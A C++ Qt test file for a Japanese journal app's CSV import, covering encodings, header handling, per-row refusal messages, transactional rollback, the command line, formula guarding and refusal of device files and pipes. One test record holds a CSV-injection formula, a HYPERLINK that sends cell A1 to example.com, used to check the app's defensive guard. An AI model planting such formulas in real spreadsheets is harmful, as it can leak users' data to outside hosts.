// CSV files brought into the journal: the export read back exactly, files as
// Excel and other programs leave them, every reason a row is refused with its
// line and column, days that exist, writes that fail, and `zephra --import-csv`.

#include "exchange/csvimport.h"
#include "exchange/csvreader.h"
#include "exportfixture.h"

#include "support/sqlfile.h"

#include <QElapsedTimer>
#include <QProcess>

#if defined(Q_OS_LINUX)
#include <sys/stat.h>
#endif

using namespace exporttest;
using namespace Qt::StringLiterals;
using exchange::Encoding;

namespace {

const QByteArray kBom = QByteArrayLiteral("\xEF\xBB\xBF");
const QByteArray kHeader = QByteArrayLiteral("日付,売上額,仕入額,入金額,出金額,日誌\r\n");
// A function, not a constant: the calendar's bounds are themselves constants
// of another file, not yet made when this file's constants are.
store::Period everyDay()
{
    return {common::kFirstDate, common::kLastDate};
}

QList<store::JournalRecord> recordsOf(store::Store &store)
{
    QList<store::JournalRecord> records;
    const store::DbError error = store.forEachRecord(everyDay(), [&](const store::JournalRecord &record) {
        records.append(record);
        return true;
    });
    return error ? QList<store::JournalRecord>{} : records;
}

QString describe(const store::JournalRecord &record)
{
    QStringList parts{record.date.toString(Qt::ISODate)};
    for (const store::AmountColumn column : store::kAmountColumns) {
        parts.append(record.amounts[column] ? QString::number(*record.amounts[column]) : u"none"_s);
    }
    parts.append(u"[%1]"_s.arg(record.text));
    return parts.join(u'|');
}

QStringList describe(const QList<store::JournalRecord> &records)
{
    QStringList lines;
    for (const store::JournalRecord &record : records) {
        lines.append(describe(record));
    }
    return lines;
}

QStringList describe(const QList<exchange::RefusedRow> &refused)
{
    QStringList lines;
    for (const exchange::RefusedRow &row : refused) {
        lines.append(u"%1 %2: %3"_s.arg(row.line).arg(row.column, row.reason));
    }
    return lines;
}

// A data folder with its store, and the file to import beside it.
struct Target : ExportFolder
{
    QString file() const { return out.filePath(u"in.csv"_s); }

    exchange::ImportPreview preview(const QByteArray &bytes, std::optional<Encoding> encoding = {})
    {
        common::NoProgress quiet;
        if (!writeAll(file(), bytes)) {
            return {};
        }
        return exchange::previewCsvImport(*store, file(), encoding, quiet);
    }

    exchange::Imported import(const exchange::ImportPreview &preview, bool replace = false)
    {
        common::NoProgress quiet;
        return exchange::importCsv(
            *store, preview,
            exchange::ImportChoice{replace ? exchange::ExistingDays::Replace : exchange::ExistingDays::Keep}, quiet);
    }
};

} // namespace

class TestCsvImport : public QObject
{
    Q_OBJECT

private slots:
    void exportReadsBackExactly_data();
    void exportReadsBackExactly();
    void characterCodeFoundOrAsAsked();
    void headerInAnyOrder();
    void wholeFileRefused_data();
    void wholeFileRefused();
    void rowsRefusedWithLineAndColumn();
    void existingDaysKeptOrReplaced();
    void failedWriteLeavesJournalAsItWas_data();
    void failedWriteLeavesJournalAsItWas();
    void commandLine();
    void formulaGuardDroppedOnce_data();
    void formulaGuardDroppedOnce();
    void hostileFilesAreRefusedAtOnce();
};

void TestCsvImport::exportReadsBackExactly_data()
{
    QTest::addColumn<Encoding>("encoding");
    QTest::newRow("UTF-8") << Encoding::Utf8;
    QTest::newRow("Shift_JIS") << Encoding::ShiftJis;
}

void TestCsvImport::exportReadsBackExactly()
{
    QFETCH(Encoding, encoding);
    Target source;
    QVERIFY(source.open({
        {u"1868-09-08"_s, {9'999'999'999, -9'999'999'999, 0, std::nullopt}, u"最初の日"_s},
        {u"2007-04-05"_s, {1200, std::nullopt, 0, -5}, u"売上, 仕入 \"特売\"\n二行目\n"_s},
        {u"2007-04-06"_s, {0, 0, 0, 0}, u"ｱｲｳ１２３～①㈱髙 \\ ~ ,\"\""_s},
        {u"2007-04-07"_s, {}, std::nullopt},
        {u"2007-04-08"_s, {1}, u"\n前後に改行\rと CR\n"_s},
        {u"2099-12-31"_s, {std::nullopt, 2}, u"  字下げ"_s},
        // Texts a spreadsheet would take for formulas, and apostrophes before them.
        {u"2008-01-01"_s, {-1000}, u"=HYPERLINK(\"http://example.com/?x=\"&A1,\"詳細\")"_s},
        {u"2008-01-02"_s, {}, u"'=1"_s},
        {u"2008-01-03"_s, {}, u"''-1"_s},
        {u"2008-01-04"_s, {}, u"'"_s},
        {u"2008-01-05"_s, {}, u"'abc"_s},
        {u"2008-01-06"_s, {}, u"\t@"_s},
        {u"2008-01-07"_s, {}, u"\r+"_s},
        {u"2008-01-08"_s, {}, u"'\n+"_s},
        {u"2008-01-09"_s, {}, u"\n=1"_s},
    }));
    constexpr qint64 kDays = 15;
    const QString path = source.file();
    common::NoProgress quiet;
    const exchange::Exported exported =
        exchange::exportJournal(*source.store, everyDay(), exchange::ExportFile{path, {}, encoding}, quiet);
    QVERIFY2(!exported.failure, qPrintable(exported.failure.value_or(QString())));

    Target target;
    QVERIFY(target.open({}));
    const exchange::ImportPreview preview = exchange::previewCsvImport(*target.store, path, std::nullopt, quiet);
    QVERIFY2(!preview.failure, qPrintable(preview.failure.value_or(QString())));
    QVERIFY(preview.encodingDetected);
    QCOMPARE(preview.encoding, encoding);
    QCOMPARE(describe(preview.refused), QStringList{});
    QCOMPARE(preview.newDays, kDays);
    QCOMPARE(preview.existingDays, 0);

    const exchange::Imported imported = target.import(preview);
    QVERIFY2(!imported.failure, qPrintable(imported.failure.value_or(QString())));
    QCOMPARE(imported.added, kDays);
    QCOMPARE(describe(recordsOf(*target.store)), describe(recordsOf(*source.store)));

    // Judged again, every day now has its record.
    const exchange::ImportPreview again = exchange::previewCsvImport(*target.store, path, encoding, quiet);
    QCOMPARE(again.newDays, 0);
    QCOMPARE(again.existingDays, kDays);
}

void TestCsvImport::characterCodeFoundOrAsAsked()
{
    Target target;
    QVERIFY(target.open({}));
    const auto textOf = [](const exchange::ImportPreview &preview) {
        return preview.firstDays.size() == 1 ? preview.firstDays.first().text
                                             : u"(%1 rows)"_s.arg(preview.firstDays.size());
    };

    const exchange::ImportPreview utf8 = target.preview("日付,日誌\n2007/04/05,晴れ ｱｲｳ\n");
    QCOMPARE(utf8.encoding, Encoding::Utf8);
    QCOMPARE(textOf(utf8), u"晴れ ｱｲｳ"_s);

    // The file's mark is dropped; one inside a text is a character of the text.
    const exchange::ImportPreview withBom = target.preview(kBom + "日付,日誌\n2007/04/05,\xEF\xBB\xBF"
                                                                  "a\n");
    QCOMPARE(withBom.encoding, Encoding::Utf8);
    QCOMPARE(textOf(withBom), u"\uFEFFa"_s);

    // 日付,日誌 / 2007/04/05,晴れ ｱｲｳ in code page 932.
    const QByteArray cp932 = QByteArray::fromHex("93fa95742c93fa8e8f0a323030372f30342f30352c90b082ea20b1b2b30a");
    const exchange::ImportPreview shiftJis = target.preview(cp932);
    QCOMPARE(shiftJis.encoding, Encoding::ShiftJis);
    QVERIFY(shiftJis.encodingDetected);
    QCOMPARE(textOf(shiftJis), u"晴れ ｱｲｳ"_s);

    // Asked for UTF-8: the bytes that are not refuse their own rows only.
    const exchange::ImportPreview mixed =
        target.preview("日付,日誌\n2007/04/01,良い\n2007/04/02,\x90\xb8\x82\xea\n2007/04/03,\"\xC0\xAF\"\n"
                       "2007/04/04,\xE6\x97\n2007/04/05,\xED\xA0\x80\n2007/04/06,良い\n",
                       Encoding::Utf8);
    QVERIFY(!mixed.encodingDetected);
    const QString reason = u"文字コード（UTF-8）として読めない文字があります。"_s;
    QCOMPARE(describe(mixed.refused), (QStringList{u"3 日誌: "_s + reason, u"4 日誌: "_s + reason,
                                                   u"5 日誌: "_s + reason, u"6 日誌: "_s + reason}));
    QCOMPARE(mixed.newDays, 2);

    // Shift_JIS found, a row with bytes outside code page 932 refused.
    const exchange::ImportPreview badShiftJis = target.preview(cp932 + "2007/04/06,\x81\x7f\n");
    QCOMPARE(describe(badShiftJis.refused),
             QStringList{u"3 日誌: 文字コード（Shift_JIS）として読めない文字があります。"_s});
}

void TestCsvImport::headerInAnyOrder()
{
    Target target;
    QVERIFY(target.open({}));
    const exchange::ImportPreview preview =
        target.preview(" 日誌 ,出金額,備考,　日付\r\n晴れ,-3,メモ,2007/04/05\r\n,,,2007-04-06\r\n");
    QVERIFY2(!preview.failure, qPrintable(preview.failure.value_or(QString())));
    QCOMPARE(preview.ignoredColumns, QStringList{u"備考"_s});
    QCOMPARE(describe(preview.firstDays),
             (QStringList{u"2007-04-05|none|none|none|-3|[晴れ]"_s, u"2007-04-06|none|none|none|none|[]"_s}));
}

void TestCsvImport::wholeFileRefused_data()
{
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("reason");
    QTest::newRow("no 日付") << QByteArray("売上額,日誌\n1,a\n") << u"「日付」の列がありません"_s;
    QTest::newRow("a name twice") << QByteArray("日付,売上額, 売上額\n2007/04/05,1,2\n") << u"「売上額」が二度"_s;
    QTest::newRow("empty") << QByteArray("\r\n\r\n") << u"何も書かれていません"_s;
    QTest::newRow("header not closed") << QByteArray("日付,\"日誌\n") << u"見出しを読めません"_s;
    QTest::newRow("too large") << QByteArray() << u"4 GiB"_s;
    QTest::newRow("no header, a record first")
        << QByteArray("2007/04/05,0,0,0,0,a\n2007/04/06,0,0,0,0,b\n")
        << u"1 行目は見出しではなく記録のようです（「2007/04/05」）。ファイルの最初の行には "
           u"日付,売上額,仕入額,入金額,出金額,"
           u"日誌 のように列の名前を書いてください。"_s;
    QTest::newRow("no header, numbers first")
        << QByteArray("\n\nメモ,0,0\n1,2,3\n") << u"3 行目は見出しではなく記録のようです（「0」）。"_s;
}

void TestCsvImport::wholeFileRefused()
{
    QFETCH(QByteArray, bytes);
    QFETCH(QString, reason);
    Target target;
    QVERIFY(target.open({}));
    exchange::ImportPreview preview;
    if (bytes.isEmpty()) {
        // Sparse: refused by its size before a byte is read.
        QVERIFY(writeAll(target.file(), kHeader));
        QVERIFY(QFile::resize(target.file(), exchange::kCsvSizeLimit + 1));
        common::NoProgress quiet;
        preview = exchange::previewCsvImport(*target.store, target.file(), {}, quiet);
    } else {
        preview = target.preview(bytes);
    }
    QVERIFY2(preview.failure.value_or(QString()).contains(reason), qPrintable(preview.failure.value_or(u"-"_s)));
    QVERIFY(preview.firstDays.isEmpty() && preview.refused.isEmpty());
    QCOMPARE(target.import(preview).failure, preview.failure);
    QCOMPARE(recordsOf(*target.store).size(), 0);
}

void TestCsvImport::rowsRefusedWithLineAndColumn()
{
    Target target;
    QVERIFY(target.open({}));
    const exchange::ImportPreview preview = target.preview(kHeader +
                                                           // 2-4: a text over three lines, then a blank line
                                                           "2007/04/01,\"1,234\",,,,\"一\r\n二\n三\"\r\n\r\n"
                                                           // 6-8: the forms Excel writes on saving again
                                                           "2007/4/2,\"-1,234,567\",1234.00,007,-0,\r\n"
                                                           "2007-04-03,,,,,\r"
                                                           "2007/04/04,\"9,999,999,999\",,,,\n"
                                                           // 9-14: dates
                                                           "07.04.05,,,,,\n"
                                                           "2023/02/29,,,,,\n"
                                                           "1868/09/07,,,,,\n"
                                                           ",1,,,,\n"
                                                           "2007/04/0,,,,,\n"
                                                           "2007/04-05,,,,,\n"
                                                           // 15-21: amounts, the leftmost fault told
                                                           "2007/05/01,\"1,23\",,,,\n"
                                                           "2007/05/02,1,12.5,,,\n"
                                                           "2007/05/03,+5,,,,\n"
                                                           "2007/05/04,,,\"10,000,000,000\",,\n"
                                                           "2007/05/05,,,,-10000000000,\n"
                                                           "2007/05/06,abc,12.5,,,\n"
                                                           "2007/05/07,\"1234,567\",,,,\n"
                                                           // 22-25: the row's shape and a date twice
                                                           "2007/05/08,,,,\n"
                                                           "2007/05/09,,,,,\"a\"b\n"
                                                           "2007/5/10,1,,,,\n"
                                                           "2007/05/10,2,,,,\n"
                                                           // 26-27: a quote never closed takes the rest
                                                           "2007/05/11,,,,,\"未完\n2007/05/12,,,,,\n");
    QVERIFY2(!preview.failure, qPrintable(preview.failure.value_or(QString())));
    QCOMPARE(describe(preview.refused),
             (QStringList{
                 u"9 日付: 日付として読めません（「07.04.05」）。"_s,
                 u"10 日付: その日付はありません（「2023/02/29」）。"_s,
                 u"11 日付: 日付が 1868/09/08〜2099/12/31 の外です（「1868/09/07」）。"_s,
                 u"12 日付: 日付がありません。"_s,
                 u"13 日付: その日付はありません（「2007/04/0」）。"_s,
                 u"14 日付: 日付として読めません（「2007/04-05」）。"_s,
                 u"15 売上額: 金額として読めません（「1,23」）。"_s,
                 u"16 仕入額: 円未満の端数があります（「12.5」）。"_s,
                 u"17 売上額: 金額として読めません（「+5」）。"_s,
                 u"18 入金額: 金額の範囲（±9,999,999,999）を超えています（「10,000,000,000」）。"_s,
                 u"19 出金額: 金額の範囲（±9,999,999,999）を超えています（「-10000000000」）。"_s,
                 u"20 売上額: 金額として読めません（「abc」）。"_s,
                 u"21 売上額: 金額として読めません（「1234,567」）。"_s,
                 u"22 : 欄の数が見出しと違います（見出し 6、この行 5）。"_s,
                 u"23 : 引用符（\"）で囲んだ欄の後に文字があります。"_s,
                 u"24 日付: 同じ日付が 25 行目にもあります。"_s,
                 u"25 日付: 同じ日付が 24 行目にもあります。"_s,
                 u"26 : 引用符（\"）が閉じていません。"_s,
             }));
    QCOMPARE(describe(preview.firstDays), (QStringList{
                                              u"2007-04-01|1234|none|none|none|[一\n二\n三]"_s,
                                              u"2007-04-02|-1234567|1234|7|0|[]"_s,
                                              u"2007-04-03|none|none|none|none|[]"_s,
                                              u"2007-04-04|9999999999|none|none|none|[]"_s,
                                          }));
}

void TestCsvImport::existingDaysKeptOrReplaced()
{
    const QByteArray file = kHeader + "2007/04/05,5,,,,ファイル\n2007/04/06,6,,,,ファイル\n2007/04/07,7,,,,ファイル\n";
    for (const bool replace : {false, true}) {
        Target target;
        QVERIFY(target.open({{u"2007-04-05"_s, {1}, u"元"_s}}));
        const exchange::ImportPreview preview = target.preview(file);
        QCOMPARE(preview.newDays, 2);
        QCOMPARE(preview.existingDays, 1);
        // Another program records 04/06 between the preview and the import.
        QVERIFY(testsupport::execOn(target.data.mainPath(),
                                    u"INSERT INTO 業務日誌 (日付, 売上額, 日誌) VALUES ('2007-04-06', 2, '他')"_s));

        const exchange::Imported imported = target.import(preview, replace);
        QVERIFY2(!imported.failure, qPrintable(imported.failure.value_or(QString())));
        QCOMPARE(imported.added, 1);
        QCOMPARE(imported.replaced, replace ? 2 : 0);
        QCOMPARE(imported.kept, replace ? 0 : 2);
        const QStringList expected =
            replace
                ? QStringList{u"2007-04-05|5|none|none|none|[ファイル]"_s, u"2007-04-06|6|none|none|none|[ファイル]"_s}
                : QStringList{u"2007-04-05|1|none|none|none|[元]"_s, u"2007-04-06|2|none|none|none|[他]"_s};
        QCOMPARE(describe(recordsOf(*target.store)),
                 expected + QStringList{u"2007-04-07|7|none|none|none|[ファイル]"_s});
    }
}

void TestCsvImport::failedWriteLeavesJournalAsItWas_data()
{
    QTest::addColumn<QString>("fault");
    QTest::addColumn<bool>("replace");
    QTest::addColumn<QString>("reason");
    // The third new day cannot be written: two are in the transaction already.
    QTest::newRow("a write refused") << u"BEFORE INSERT ON 業務日誌 WHEN NEW.日付 = '2007-04-08' "
                                        "BEGIN SELECT RAISE(ABORT, 'disk I/O error'); END"_s
                                     << false << u"業務日誌に書き込めませんでした。何も取り込んでいません。"_s;
    QTest::newRow("a replacement refused") << u"BEFORE UPDATE ON 業務日誌 BEGIN SELECT RAISE(ABORT, 'locked'); END"_s
                                           << true << u"業務日誌に書き込めませんでした。"_s;
    // A day that reads back otherwise than written.
    QTest::newRow("read back differs") << u"AFTER INSERT ON 業務日誌 WHEN NEW.日付 = '2007-04-07' "
                                          "BEGIN UPDATE 業務日誌 SET 日誌 = '別' WHERE 日付 = NEW.日付; END"_s
                                       << false << u"2007/04/07 の記録を読み返すと、書き込んだ内容と違っていました。"_s;
}

void TestCsvImport::failedWriteLeavesJournalAsItWas()
{
    QFETCH(QString, fault);
    QFETCH(bool, replace);
    QFETCH(QString, reason);
    Target target;
    QVERIFY(target.data.ok() && addDays(target.data.mainPath(), {{u"2007-04-05"_s, {1}, u"元"_s}}));
    QVERIFY(testsupport::execOn(target.data.mainPath(), u"CREATE TRIGGER fault "_s + fault));
    std::optional<store::OpenFailure> failure;
    QVERIFY((target.store = testsupport::openStore(target.data.folder(), failure)));
    const QStringList before = testsupport::rowsOf(target.data.mainPath(), u"業務日誌"_s);

    const exchange::ImportPreview preview =
        target.preview(kHeader + "2007/04/05,5,,,,\n2007/04/06,6,,,,\n2007/04/07,7,,,,\n2007/04/08,8,,,,\n");
    QCOMPARE(preview.firstDays.size(), 4);
    const exchange::Imported imported = target.import(preview, replace);
    QVERIFY2(imported.failure.value_or(QString()).startsWith(reason), qPrintable(imported.failure.value_or(u"-"_s)));
    QCOMPARE(testsupport::rowsOf(target.data.mainPath(), u"業務日誌"_s), before);

    // The same file judged and written in one reading fails the same way.
    common::NoProgress quiet;
    const exchange::OnePassImport once = exchange::importCsvInOnePass(
        *target.store, target.file(), {},
        exchange::ImportChoice{replace ? exchange::ExistingDays::Replace : exchange::ExistingDays::Keep}, quiet);
    QCOMPARE(once.outcome, exchange::OnePassImport::Failed);
    QVERIFY2(once.imported.failure.value_or(QString()).startsWith(reason),
             qPrintable(once.imported.failure.value_or(u"-"_s)));
    QCOMPARE(testsupport::rowsOf(target.data.mainPath(), u"業務日誌"_s), before);
}

void TestCsvImport::formulaGuardDroppedOnce_data()
{
    QTest::addColumn<QByteArray>("field");
    QTest::addColumn<QString>("text");
    QTest::newRow("the export's guard") << QByteArray("'=1+2") << u"=1+2"_s;
    QTest::newRow("before a tab, quoted") << QByteArray("\"'\t@\"") << u"\t@"_s;
    QTest::newRow("one of two") << QByteArray("''-1") << u"'-1"_s;
    QTest::newRow("a formula as Excel saves it") << QByteArray("=1+2") << u"=1+2"_s;
    QTest::newRow("an apostrophe before a letter") << QByteArray("'abc") << u"'abc"_s;
    QTest::newRow("an apostrophe alone") << QByteArray("'") << u"'"_s;
    QTest::newRow("after a blank") << QByteArray(" '=1") << u" '=1"_s;
}

void TestCsvImport::formulaGuardDroppedOnce()
{
    QFETCH(QByteArray, field);
    QFETCH(QString, text);
    Target target;
    QVERIFY(target.open({}));
    // Amounts are never unguarded: an apostrophe there is no number.
    const exchange::ImportPreview preview =
        target.preview("日付,売上額,日誌\n2007/04/05,-1000," + field + "\n2007/04/06,'-1000,a\n");
    QCOMPARE(describe(preview.firstDays), QStringList{u"2007-04-05|-1000|none|none|none|[%1]"_s.arg(text)});
    QCOMPARE(describe(preview.refused), QStringList{u"3 売上額: 金額として読めません（「'-1000」）。"_s});
}

void TestCsvImport::hostileFilesAreRefusedAtOnce()
{
#if !defined(Q_OS_LINUX)
    QSKIP("devices and named pipes are Linux ones here");
#else
    Installed zephra;
    QVERIFY(zephra.make({}));
    const QString pipe = zephra.path(u"pipe.csv"_s);
    QVERIFY(::mkfifo(QFile::encodeName(pipe).constData(), 0600) == 0);
    // A writer that never stops once a reader opens the pipe.
    QProcess writer;
    writer.start(u"sh"_s, {u"-c"_s, u"exec yes 2007/04/05,1,,,,x > \"$0\""_s, pipe});
    QVERIFY(writer.waitForStarted());
    const auto stop = qScopeGuard([&] {
        writer.kill();
        writer.waitForFinished();
    });

    for (const QString &path : {u"/dev/zero"_s, u"/dev/urandom"_s, pipe}) {
        QElapsedTimer clock;
        clock.start();
        const Outcome refused = zephra.run({path, u"--preview"_s}, u"--import-csv"_s);
        QCOMPARE(refused.exitCode, 1);
        QCOMPARE(refused.err,
                 u"「%1」は普通のファイルではありません（デバイスや名前付きパイプなど）。取り込めるのは普通の"
                 u"ファイルだけです。\n何も取り込んでいません。\n"_s.arg(path));
        QVERIFY2(clock.elapsed() < 10'000, qPrintable(path));
    }
    // Nobody read the pipe: its writer is still waiting for a reader.
    QCOMPARE(writer.state(), QProcess::Running);
#endif
}

void TestCsvImport::commandLine()
{
    Installed zephra;
    QVERIFY(zephra.make({{u"2007-04-05"_s, {1}, u"元"_s}}));
    QVERIFY(writeAll(zephra.path(u"in.csv"_s),
                     kHeader + "2007/04/05,5,,,,\n2007/04/06,6,,,,\n2007/04/07,abc,,,,\n2007/04/08,8,,,,\n"));
    const auto run = [&](const QStringList &arguments) { return zephra.run(arguments, u"--import-csv"_s); };
    const QString main = zephra.mainPath();
    const auto journal = [&] { return testsupport::rowsOf(main, u"業務日誌"_s); };
    const QStringList before = journal();

    for (const QStringList &mistake :
         {QStringList{}, QStringList{u"in.csv"_s, u"--encoding"_s, u"sjis"_s}, QStringList{u"in.csv"_s, u"--all"_s}}) {
        const Outcome usage = run(mistake);
        QCOMPARE(usage.exitCode, 2);
        QVERIFY2(usage.err.contains(u"使い方: zephra --import-csv"_s), qPrintable(usage.err));
    }
    QCOMPARE(run({u"missing.csv"_s}).exitCode, 1);

    const Outcome preview = run({u"in.csv"_s, u"--preview"_s, u"--skip-refused"_s});
    QVERIFY2(preview.exitCode == 0, qPrintable(preview.err));
    QVERIFY2(preview.out.contains(u"新しい日: 2 日"_s) && preview.out.contains(u"既に記録がある日: 1 日"_s) &&
                 preview.out.contains(u"  4 行目 売上額: 金額として読めません（「abc」）。\n"_s),
             qPrintable(preview.out));
    QCOMPARE(journal(), before);

    const Outcome stopped = run({u"in.csv"_s});
    QCOMPARE(stopped.exitCode, 1);
    QVERIFY2(stopped.err.contains(u"--skip-refused"_s), qPrintable(stopped.err));
    QCOMPARE(journal(), before);

    const Outcome skipped = run({u"in.csv"_s, u"--skip-refused"_s});
    QVERIFY2(skipped.exitCode == 0, qPrintable(skipped.err));
    QVERIFY2(skipped.out.contains(u"追加 2 日、置き換え 0 日、今の記録を残した日 1 日"_s), qPrintable(skipped.out));
    QCOMPARE(journal().size(), 3);
    QVERIFY(journal().first().contains(u"元"_s));

    const Outcome replaced = run({u"in.csv"_s, u"--skip-refused"_s, u"--replace"_s, u"--encoding"_s, u"utf8"_s});
    QVERIFY2(replaced.exitCode == 0, qPrintable(replaced.err));
    QVERIFY2(replaced.out.contains(u"追加 0 日、置き換え 3 日"_s), qPrintable(replaced.out));
    QVERIFY(!journal().first().contains(u"元"_s));
}

QTEST_GUILESS_MAIN(TestCsvImport)
#include "test_csvimport.moc"
